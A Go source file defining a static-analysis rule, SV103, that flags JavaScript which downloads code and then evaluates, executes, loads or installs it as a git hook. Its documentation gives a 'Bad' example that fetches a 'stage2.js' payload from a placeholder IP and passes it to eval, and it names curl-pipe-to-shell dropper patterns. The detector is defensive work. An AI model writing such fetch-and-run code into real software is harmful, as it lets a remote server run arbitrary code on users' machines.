package rules

import (
	"strconv"
	"strings"

	"github.com/dop251/goja/ast"

	"github.com/skillvet/skillvet/analyzer"
)

// JSRemoteCode reports JavaScript that downloads code and runs it.
var JSRemoteCode = register(&analyzer.Rule{
	ID:       "SV103",
	Name:     "js-remote-code",
	Title:    "JavaScript downloads code and runs it",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-494", "CWE-829"},
	Inputs:   analyzer.InJS,
	Doc: `A JavaScript or TypeScript file fetches content from the network and executes it:

- passes a download to ` + "`eval`" + `, ` + "`new Function`" + `, ` + "`vm.runIn*`" + `, ` + "`new vm.Script`" + ` or
  ` + "`module._compile`" + `;
- writes a download to disk and then makes it executable (` + "`fs.chmod`" + `, ` + "`chmod +x`" + `),
  runs it (` + "`spawn`/`execFile`/`exec`/`fork`" + `) or loads it (` + "`require`" + `);
- imports a module from a URL or a ` + "`data:`" + ` URL;
- writes a script whose text downloads and runs code (` + "`curl … | sh`" + `, ` + "`bash -c \"$(curl …)\"`" + `)
  as an executable file (` + "`mode: 0o755`" + `, a later ` + "`chmod`" + `, or into a ` + "`hooks/`" + ` directory),
  so it runs later — on every commit for a git hook.

The data flow is followed through variables, callbacks (` + "`res.on('data')`" + `), promise
chains (` + "`await r.text()`" + `) and stream pipes. This is the JavaScript form of ` + "`curl | sh`" + `: what
runs is decided by the server at run time, after any review.

**Fix:** ship the code in the skill, or install a pinned, checksummed package through a
package manager.

Bad:

` + "```js" + `
const r = await fetch('https://198.51.100.7/stage2.js');
eval(await r.text());
` + "```" + `

Good:

` + "```js" + `
const { helper } = require('./lib/helper.js');
` + "```",
	Run: runJSRemoteCode,
})

func runJSRemoteCode(p *analyzer.Pass) error {
	v := jsOf(p)
	if v == nil {
		return nil
	}
	// 1. downloads evaluated as code
	sink := func(n ast.Node, callee string, args []ast.Expression, calleeExpr ast.Expression) {
		what, code := v.evalSink(callee, args)
		if code == nil {
			if dot, ok := calleeExpr.(*ast.DotExpression); ok && dot.Identifier.Name.String() == "_compile" && len(args) > 0 {
				what, code = "module._compile()", args[0]
			}
		}
		if code != nil && v.fromNetwork(code) != nil {
			v.report(n, Critical, what+" runs code downloaded from the network")
		}
	}
	for _, c := range v.in.Calls() {
		if err := v.p.Context().Err(); err != nil {
			return err
		}
		callee, args := v.effectiveCall(c)
		sink(c, callee, args, c.Callee)
	}
	for _, n := range v.in.News() {
		sink(n, jsNormMod(v.in.Resolve(n.Callee)), n.ArgumentList, n.Callee)
	}

	// 2. a script that downloads and runs code, written as an executable
	// (a git hook, a shim on PATH): it runs later, outside this file
	v.droppers()

	// 3. downloads written to disk, then made executable, run or loaded
	keys := map[string]bool{}
	for _, c := range v.in.Calls() {
		if err := v.p.Context().Err(); err != nil {
			return err
		}
		callee := v.callee(c)
		switch callee {
		case "module:fs.writeFileSync", "module:fs.writeFile", "module:fs.appendFileSync", "module:fs-extra.outputFile":
			if len(c.ArgumentList) > 1 && v.fromNetwork(c.ArgumentList[1]) != nil {
				v.addKeys(keys, c.ArgumentList[0])
			}
		}
		// res.pipe(fs.createWriteStream(p)) and pipeline(res, createWriteStream(p))
		dot, ok := c.Callee.(*ast.DotExpression)
		isPipe := ok && dot.Identifier.Name.String() == "pipe" && len(c.ArgumentList) > 0 && v.fromNetwork(dot.Left) != nil
		isPipeline := (callee == "module:stream.pipeline" || callee == "module:stream/promises.pipeline") && len(c.ArgumentList) > 1 && v.fromNetwork(c.ArgumentList[0]) != nil
		if isPipe || isPipeline {
			for _, a := range c.ArgumentList {
				v.in.Reach(a, func(x ast.Expression) bool {
					if wc, ok := x.(*ast.CallExpression); ok && v.callee(wc) == "module:fs.createWriteStream" && len(wc.ArgumentList) > 0 {
						v.addKeys(keys, wc.ArgumentList[0])
					}
					return true
				})
			}
		}
	}
	if len(keys) == 0 {
		return nil
	}
	for _, c := range v.in.Calls() {
		if err := v.p.Context().Err(); err != nil {
			return err
		}
		callee := v.callee(c)
		var what string
		switch {
		case callee == "module:fs.chmodSync" || callee == "module:fs.chmod":
			what = "makes a downloaded file executable"
		case jsChildProcessCall(callee) != "":
			what = "runs a downloaded file"
		case callee == "require":
			what = "loads a downloaded file as a module"
		default:
			continue
		}
		if len(c.ArgumentList) == 0 {
			continue
		}
		args := c.ArgumentList
		if what != "runs a downloaded file" {
			args = args[:1]
		}
		for _, a := range args {
			if v.matchesKey(keys, a) {
				v.report(c, Critical, what)
				break
			}
		}
	}
	return nil
}

func (v *jsView) pathKey(e ast.Expression) string {
	if s, ok := v.pathStr(e); ok {
		return "p:" + s
	}
	if id, ok := e.(*ast.Identifier); ok {
		return "id:" + id.Name.String()
	}
	return ""
}

func (v *jsView) addKeys(keys map[string]bool, e ast.Expression) {
	if k := v.pathKey(e); k != "" {
		keys[k] = true
	}
	if id, ok := e.(*ast.Identifier); ok {
		keys["id:"+id.Name.String()] = true
	}
}

func (v *jsView) matchesKey(keys map[string]bool, e ast.Expression) bool {
	hit := false
	v.in.Reach(e, func(x ast.Expression) bool {
		if hit {
			return false
		}
		if id, ok := x.(*ast.Identifier); ok && keys["id:"+id.Name.String()] {
			hit = true
			return false
		}
		if k := v.pathKey(x); k != "" && keys[k] {
			hit = true
			return false
		}
		if s, ok := v.in.Str(x); ok {
			for k := range keys {
				if p, ok := strings.CutPrefix(k, "p:"); ok && len(p) > 3 && !strings.Contains(p, "*") && strings.Contains(s, p) {
					hit = true
					return false
				}
			}
		}
		return true
	})
	return hit
}

// droppers reports files written with executable permission (or into a
// hooks directory, or chmod-ed afterwards) whose content is a shell script
// that downloads and runs code.
func (v *jsView) droppers() {
	chmodded := map[string]bool{}
	for _, c := range v.in.Calls() {
		switch v.callee(c) {
		case "module:fs.chmodSync", "module:fs.chmod", "module:fs.promises.chmod":
			if len(c.ArgumentList) > 0 {
				v.addKeys(chmodded, c.ArgumentList[0])
			}
		}
	}
	for _, c := range v.in.Calls() {
		switch v.callee(c) {
		case "module:fs.writeFileSync", "module:fs.writeFile", "module:fs.promises.writeFile",
			"module:fs-extra.outputFile", "module:fs-extra.outputFileSync":
		default:
			continue
		}
		if len(c.ArgumentList) < 2 {
			continue
		}
		why := v.shellDangerOf(c.ArgumentList[1])
		if why == "" {
			continue
		}
		path, _ := v.pathStr(c.ArgumentList[0])
		exec := len(c.ArgumentList) > 2 && jsExecMode(v.objProp(c.ArgumentList[2], "mode"))
		hook := strings.Contains(path, "hooks/") || strings.Contains(path, "/.git/")
		if !hook {
			// path.join(hooksDir, name) with hooksDir = …'hooks'
			v.in.Reach(c.ArgumentList[0], func(x ast.Expression) bool {
				if s, ok := v.in.Str(x); ok && strings.Contains(strings.ToLower(s), "hooks") {
					hook = true
				}
				return !hook
			})
		}
		if exec || hook || len(chmodded) > 0 && v.matchesKey(chmodded, c.ArgumentList[0]) {
			where := "an executable script"
			if hook {
				where = "a hook script"
			}
			v.report(c, Critical, "writes "+where+" that "+why)
		}
	}
}

// jsExecMode reports a file mode with an execute bit.
func jsExecMode(e ast.Expression) bool {
	switch x := e.(type) {
	case *ast.NumberLiteral:
		switch n := x.Value.(type) {
		case int64:
			return n&0o111 != 0
		case float64:
			return int64(n)&0o111 != 0
		}
	case *ast.StringLiteral:
		n, err := strconv.ParseInt(strings.TrimPrefix(x.Value.String(), "0o"), 8, 32)
		return err == nil && n&0o111 != 0
	}
	return false
}
